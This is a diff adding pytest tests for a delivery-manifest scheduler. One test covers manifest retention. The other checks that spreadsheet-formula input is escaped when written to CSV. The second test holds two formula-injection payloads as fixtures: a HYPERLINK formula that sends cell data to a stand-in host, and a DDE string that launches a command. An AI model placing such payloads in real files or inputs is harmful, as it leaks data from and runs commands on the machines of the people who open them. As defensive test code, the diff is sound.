@@ -3,8 +3,12 @@
 import csv
 import io
 import os
+import stat
 
 import pytest
+
+from applications_helpers import GOOD_ADDRESS, application, drive
+from helpers import http_for
 
 from scheduler_fixtures import (  # noqa: F401
     KECAMATAN, code, sched, sched_stack, seed_completed)
@@ -146,6 +150,64 @@ def test_lost_manifest_is_written_again_byte_for_byte(sched):
     assert r.returncode == 0, r.stderr
     assert sched.runs()[-1]["counts"]["manifests_written"] == 1
     assert outbox_files(sched) == before
+
+
+def test_a_manifest_lost_after_its_retention_stays_lost(sched):
+    """A manifest handed over longer ago than manifest_retention_days and
+    deleted since is not written again; a younger one is."""
+    seed_completed(sched, 10)
+    cfg = sched.config()
+    assert sched.run("once", "delivery-batch", config=cfg).returncode == 0
+    old, young = sorted(outbox_files(sched))[:2]
+    sched.sql("UPDATE delivery_batch SET manifest_written_at = now()"
+              " - interval '31 days' WHERE code = %s",
+              (old[len("manifest-"):-len(".csv")],))
+    sched.sql("UPDATE delivery_batch SET manifest_written_at = now()"
+              " - interval '29 days' WHERE code = %s",
+              (young[len("manifest-"):-len(".csv")],))
+    for name in (old, young):
+        os.unlink(os.path.join(sched.outbox, name))
+
+    r = sched.run("once", "delivery-batch", config=cfg)
+    assert r.returncode == 0, r.stderr
+    assert sched.runs()[-1]["counts"]["manifests_written"] == 1
+    files = outbox_files(sched)
+    assert young in files and old not in files
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://x.invalid/?d="&A1,"Klik di sini")',
+    "street": "@SUM(1+1)*cmd|' /C calc'!A0 Jl. Melur No. 5",
+    "kelurahan": "Simpang Baru",
+}
+
+
+def test_a_formula_a_citizen_wrote_reaches_the_courier_as_text(sched):
+    """A name and a street that a spreadsheet would run as formulas, submitted
+    through the API, stand in the manifest behind an apostrophe and are
+    otherwise what the citizen wrote; the manifest is not world-readable."""
+    if not sched.st.nginx_running():
+        sched.st.start_nginx()
+    http = http_for(sched.st)
+    body = application(7001, address=dict(GOOD_ADDRESS,
+                                           street=FORMULAS["street"]),
+                       name=FORMULAS["name"])
+    r = http.post("/api/v1/applications", body)
+    assert r.status == 201, r
+    drive(http.ops, r.json()["code"], ["verified", "processing", "completed"])
+
+    result = sched.run("once", "delivery-batch", config=sched.config())
+    assert result.returncode == 0, result.stderr
+    (name, body), = outbox_files(sched).items()
+    rows = list(csv.reader(io.StringIO(body.decode())))
+    assert rows[0] == HEADER.split(",")
+    row = dict(zip(rows[0], rows[1]))
+    assert row["recipient_name"] == "'" + FORMULAS["name"]
+    assert row["street"] == "'" + FORMULAS["street"]
+    assert row["phone"].startswith("+62")       # a number, left as it is
+    assert row["kelurahan"] == FORMULAS["kelurahan"]
+    mode = stat.S_IMODE(os.stat(os.path.join(sched.outbox, name)).st_mode)
+    assert mode & 0o007 == 0 and mode & 0o640 == 0o640, oct(mode)
 
 
 CRASH_POINTS = ["after_run_claim", "after_claim", "after_commit",
